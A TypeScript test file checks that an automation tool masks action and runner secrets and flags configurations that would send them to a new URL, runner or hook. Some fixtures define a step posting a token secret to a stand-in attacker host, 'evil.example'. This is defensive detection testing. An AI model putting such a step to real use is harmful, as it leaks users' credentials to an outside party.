import { describe, expect, test } from 'vitest'
import { joinSecrets, PLACEHOLDER, sendsSecretsElsewhere, splitSecrets } from './entry-secrets.ts'
import { ActionConfig, RunnerConfig } from './schema/action.ts'

const KEY = 'b3BzZGVjayBleGFtcGxlIGtleSwgMzIgYnl0ZXMhISE='
const action = (more: Record<string, unknown> = {}) =>
  ActionConfig.parse({
    service: 'api',
    slug: 'fix',
    name: 'Fix',
    secrets: { token: 't0ken', hook: 'https://hooks.example.org/h00k' },
    steps: [
      {
        kind: 'http',
        url: 'https://me:pa55@api.example.org/fix',
        headers: { Authorization: 'Bearer b3arer', Accept: 'text/plain' },
      },
      { kind: 'http', url: '{{hook}}', body: '{{token}}' },
      { kind: 'runner', runner: 'host', command: 'fix' },
    ],
    parameters: [
      {
        name: 'id',
        choices_from: {
          url: 'https://api.example.org/list',
          headers: { 'X-Api-Key': 'k3y' },
          each: '$[*]',
          value: 'id',
        },
      },
    ],
    ...more,
  })

const SECRETS = {
  'secrets.token': 't0ken',
  'secrets.hook': 'https://hooks.example.org/h00k',
  'steps.0.url': 'me:pa55',
  'steps.0.headers.Authorization': 'Bearer b3arer',
  'parameters.0.choices_from.headers.X-Api-Key': 'k3y',
}

describe('secrets of an action', () => {
  test('are taken out wherever they stand, and put back', () => {
    const split = splitSecrets('action', action())
    expect(split.secrets).toEqual(SECRETS)
    expect(JSON.stringify(split.config)).not.toMatch(/t0ken|h00k|pa55|b3arer|k3y/)
    expect(joinSecrets('action', split.config, SECRETS)).toEqual({ config: action(), missing: [] })
  })

  const stored = splitSecrets('action', action()).config
  const kept = (change: (config: ActionConfig) => ActionConfig) =>
    sendsSecretsElsewhere('action', { stored, sent: change(stored) })
  const [first, , third] = stored.steps

  test('go nowhere else than they were given for', () => {
    expect(kept(config => config)).toBe(false)
    expect(kept(config => ({ ...config, name: 'Another name' }))).toBe(false)
    const another = { kind: 'http', url: 'https://evil.example/', body: '{{token}}' }
    expect(kept(config => ({ ...config, steps: action({ steps: [another] }).steps }))).toBe(true)
  })

  test('do not go to another runner', () => {
    expect(third?.kind).toBe('runner')
    const moved = action({ steps: [{ kind: 'runner', runner: 'mine', command: 'fix' }] }).steps
    expect(kept(config => ({ ...config, steps: moved }))).toBe(true)
  })

  test('do not go to an address that is a secret itself and was given anew', () => {
    expect(first?.kind).toBe('http')
    const hook = 'https://evil.example/'
    expect(kept(config => ({ ...config, secrets: { ...config.secrets, hook } }))).toBe(true)
    expect(kept(config => ({ ...config, secrets: { ...config.secrets, token: 'another' } }))).toBe(false)
  })
})

test('the key of a runner is masked, and kept where it was given for', () => {
  const runner = RunnerConfig.parse({ slug: 'h', name: 'H', url: 'http://h:9440', secrets: { key: KEY } })
  const { config, secrets } = splitSecrets('runner', runner)
  expect(secrets).toEqual({ 'secrets.key': KEY })
  expect(config.secrets.key).toBe(PLACEHOLDER)
  expect(joinSecrets('runner', config, secrets)).toEqual({ config: runner, missing: [] })
  const moved = { ...config, url: 'http://mine:9440' }
  expect(sendsSecretsElsewhere('runner', { stored: config, sent: moved })).toBe(true)
})
